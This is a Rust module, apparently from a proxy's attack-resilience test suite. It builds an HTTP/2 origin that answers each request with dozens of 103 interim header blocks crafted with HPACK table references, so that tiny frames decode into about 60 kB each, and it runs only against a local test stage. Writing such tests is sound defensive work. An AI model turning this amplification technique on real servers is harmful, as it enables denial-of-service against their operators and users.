//! Interim answers that are large where they are decoded (RFC 9113, 8.1).

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::thread;

use super::{Attack, Effort, Party, Stage};
use crate::frames::{
    END_HEADERS, END_STREAM, HEADERS, HELLO, SETTINGS, field, frame, parse, request,
};
use crate::raw::Raw;

/// Exchanges that the origin answers.
const EXCHANGES: u32 = 300;

/// Interim answers to each, of 60 kB decoded.
const INTERIM: usize = 64;

/// An origin that answers with 103 from its table.
pub(super) const INDEXED: Attack = Attack {
    name: "interim-heads",
    by: Party::Origin,
    summary: "300 exchanges answered with 64 interim heads of 60 kB, each 30 bytes on the wire",
    prepare,
    run,
};

fn prepare() -> Stage {
    let origin = origin();
    Stage::start(
        "web: { http: 127.0.0.1:0 }",
        "{ terminate: origin }",
        &format!("upstreams: {{ origin: {{ endpoints: [\"{origin}\"], http: 2 }} }}"),
    )
}

fn run(stage: &Stage) -> Effort {
    let mut raw = Raw::connect(stage.node.address("web"));
    let mut bytes = HELLO.to_vec();
    for number in 0..EXCHANGES {
        let block = request("GET", "origin.test", "/");
        bytes.extend(frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            2 * number + 1,
            &block,
        ));
    }
    raw.send_if_open(&bytes);

    let mut effort = Effort {
        bytes: u64::from(EXCHANGES) * INTERIM as u64 * 30,
        attempts: u64::from(EXCHANGES) * INTERIM as u64,
        ..Effort::default()
    };
    effort.hold(raw);
    effort
}

fn origin() -> SocketAddr {
    // A failure to bind ends the attack's thread with its reason.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    thread::spawn(move || {
        while let Ok((stream, _)) = listener.accept() {
            thread::spawn(move || answer(stream));
        }
    });
    address
}

/// Answers each request with interim heads, in one write.
fn answer(mut stream: TcpStream) {
    let mut heard = Vec::new();
    let mut piece = [0; 64 * 1024];
    let mut answered = 0;
    drop(stream.write_all(&frame(SETTINGS, 0, 0, b"")));

    while let Ok(length @ 1..) = stream.read(&mut piece) {
        heard.extend_from_slice(&piece[..length]);
        let frames = heard.strip_prefix(&HELLO[..24]).unwrap_or(&heard);
        let asked: Vec<u32> = parse(frames)
            .iter()
            .filter(|(kind, ..)| *kind == HEADERS)
            .map(|(_, _, stream, _)| *stream)
            .collect();

        let mut bytes = Vec::new();
        for stream in &asked[answered..] {
            for number in 0..INTERIM {
                let is_first = *stream == asked[0] && number == 0;
                bytes.extend(frame(HEADERS, END_HEADERS, *stream, &interim(is_first)));
            }
        }
        answered = asked.len();
        if stream.write_all(&bytes).is_err() {
            return;
        }
    }
}

/// A 103: the first fills the table with one field of 4 kB, all refer to it 15 times.
fn interim(is_first: bool) -> Vec<u8> {
    let mut block = field(b":status", b"103");
    if is_first {
        block.extend([0x40, 4]);
        block.extend(b"link");
        let rest = 3_997 - 127;
        block.extend([0x7f, 0x80 | (rest & 0x7f) as u8, (rest >> 7) as u8]);
        block.extend([b'x'; 3_997]);
    }
    block.extend([0xbe; 15]);
    block
}
